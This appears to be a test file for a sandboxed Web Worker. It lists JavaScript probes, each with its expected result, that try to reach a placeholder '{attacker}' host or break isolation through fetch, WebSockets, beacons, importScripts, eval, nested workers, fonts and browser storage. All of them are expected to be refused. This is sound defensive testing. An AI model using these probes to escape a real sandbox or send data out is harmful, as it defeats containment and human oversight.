//: fetch
return await fetch("{attacker}?fetch").then(() => "open");
//> raises TypeError: Failed to fetch
//: fetch without CORS
return await fetch("{attacker}?nocors", { mode: "no-cors", keepalive: true }).then(() => "open");
//> raises TypeError: Failed to fetch
//: fetch of the site, by its absolute address
return await fetch("{attacker}".replace("stolen", "some/sub/path/index.html")).then(() => "open");
//> raises TypeError: Failed to fetch
//: fetch of a relative address
return await fetch("index.html").then(() => "open");
//> raises TypeError: Failed to execute 'fetch' on 'WorkerGlobalScope': Failed to parse URL from index.html
//: fetch of a blob of its own
return await fetch(URL.createObjectURL(new Blob(["x"]))).then(() => "open");
//> raises TypeError: Failed to fetch
//: fetch of data
return await fetch("data:text/plain,x").then(() => "open");
//> raises TypeError: Failed to fetch
//: XMLHttpRequest
const request = new XMLHttpRequest();
return await new Promise((resolve) => {
    request.onload = () => resolve("open");
    request.onerror = () => resolve("refused");
    request.open("GET", "{attacker}?xhr");
    request.send();
});
//> gives refused
//: XMLHttpRequest that blocks
const request = new XMLHttpRequest();
request.open("GET", "{attacker}?xhr-sync", false);
request.send();
return "open";
//> raises NetworkError: *
//: WebSocket
const socket = new WebSocket("{attacker}?ws".replace("http", "ws"));
return await new Promise((resolve) => {
    socket.onopen = () => resolve("open");
    socket.onerror = () => resolve("refused");
});
//> gives refused
//: WebSocketStream
if (!("WebSocketStream" in self)) return "refused";
return await new WebSocketStream("{attacker}?wss".replace("http", "ws")).opened.then(() => "open", () => "refused");
//> gives refused
//: EventSource
const source = new EventSource("{attacker}?events");
return await new Promise((resolve) => {
    source.onopen = () => resolve("open");
    source.onerror = () => resolve("refused");
});
//> gives refused
//: WebTransport
if (!("WebTransport" in self)) return "refused";
const transport = new WebTransport("{attacker}?wt".replace("http", "https"));
transport.closed.catch(() => {});
return await transport.ready.then(() => "open", () => "refused");
//> gives refused
//: a beacon
return "sendBeacon" in navigator ? navigator.sendBeacon("{attacker}?beacon", "x") : "not there";
//> gives not there
//: importScripts
importScripts("{attacker}?import");
return "open";
//> raises NetworkError: *
//: importScripts of data
importScripts("data:text/javascript,self.taken=1");
return "open";
//> raises NetworkError: *
//: import()
return await import("{attacker}?module").then(() => "open");
//> raises TypeError: *
//: import() of data
return await import("data:text/javascript,self.taken=1").then(() => "open");
//> raises TypeError: *
//: eval
return eval("1 + 1");
//> raises EvalError: *
//: Function
return new Function("return 1")();
//> raises EvalError: *
//: a function's constructor
return (() => {}).constructor("return 1")();
//> raises EvalError: *
//: an async function's constructor
return (async () => {}).constructor("return 1")();
//> raises EvalError: *
//: a generator's constructor
return (function* () {}).constructor("return 1")();
//> raises EvalError: *
//: a text given to setTimeout
self.taken = 0;
setTimeout("self.taken = 1", 0);
await new Promise((resolve) => setTimeout(resolve, 20));
return self.taken;
//> gives 0
//: a nested worker of the attacker's
const nested = new Worker("{attacker}?worker");
return await new Promise((resolve) => {
    nested.onmessage = () => resolve("open");
    nested.onerror = () => resolve("refused");
});
//> raises SecurityError: *
//: a nested worker of its own has the same policy
const text = "fetch('{attacker}?nested').then(() => postMessage('open'), () => postMessage('refused'))";
const nested = new Worker(URL.createObjectURL(new Blob([text])));
return await new Promise((resolve) => {
    nested.onmessage = ({ data }) => resolve(data);
    nested.onerror = () => resolve("refused");
});
//> gives refused
//: a shared worker
return "SharedWorker" in self ? "there" : "not there";
//> gives not there
//: indexedDB
const request = indexedDB.open("agent");
return await new Promise((resolve) => {
    request.onsuccess = () => resolve("open");
    request.onerror = () => resolve("refused");
});
//> raises SecurityError: *
//: the list of databases
return await indexedDB.databases().then((all) => all.length);
//> raises SecurityError: *
//: caches
return await caches.open("x").then(() => "open");
//> raises ReferenceError: caches is not defined
//: the file system
return await navigator.storage.getDirectory().then(() => "open");
//> raises TypeError: Cannot read properties of undefined (reading 'getDirectory')
//: storage that persists
return await navigator.storage.persisted().then(() => "open");
//> raises TypeError: *
//: cookies
return "cookieStore" in self ? await self.cookieStore.getAll().then(() => "open") : "not there";
//> gives not there
//: localStorage
return "localStorage" in self ? "there" : "not there";
//> gives not there
//: locks
return await navigator.locks.request("x", () => "open");
//> raises TypeError: Cannot read properties of undefined (reading 'request')
//: a service worker
return navigator.serviceWorker ? await navigator.serviceWorker.register("{attacker}?sw").then(() => "open") : "not there";
//> gives not there
//: another page's channel
const mine = new BroadcastChannel("agent");
const yours = new BroadcastChannel("agent");
return await new Promise((resolve) => {
    yours.onmessage = () => resolve("within its own origin");
    mine.postMessage("x");
});
//> gives within its own origin
//: notifications
return await Notification.requestPermission().then((state) => state, (error) => error.name);
//> raises TypeError: *
//: a peer connection
return "RTCPeerConnection" in self ? "there" : "not there";
//> gives not there
//: windows
return [typeof window, typeof document, typeof parent, typeof top, typeof opener, typeof open];
//> gives undefined,undefined,undefined,undefined,undefined,undefined
//: its address says nothing of the page
return [self.origin, location.protocol, /127\.0\.0\.1|localhost/.test(location.href), self.name, typeof document];
//> gives null,blob:,false,,undefined
//: a font
const font = new FontFace("stolen", "url({attacker}?font)");
return await font.load().then(() => "open");
//> raises NetworkError: *
//: shared memory
return typeof SharedArrayBuffer;
//> gives undefined
